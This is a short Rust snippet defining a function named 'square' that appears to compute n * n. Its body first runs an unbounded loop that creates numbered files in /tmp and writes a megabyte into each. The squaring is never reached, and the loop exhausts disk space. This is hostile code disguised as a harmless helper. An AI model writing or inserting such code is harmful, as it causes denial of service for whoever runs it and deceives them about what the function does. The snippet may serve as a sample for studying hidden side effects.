use std::io::Write;

fn square(n: u64) -> u64 {
    for name in 0.. {
        if let Ok(mut file) = std::fs::File::create(format!("/tmp/{name}")) {
            let _ = file.write_all(&[7; 1 << 20]);
        }
    }
    n * n
}
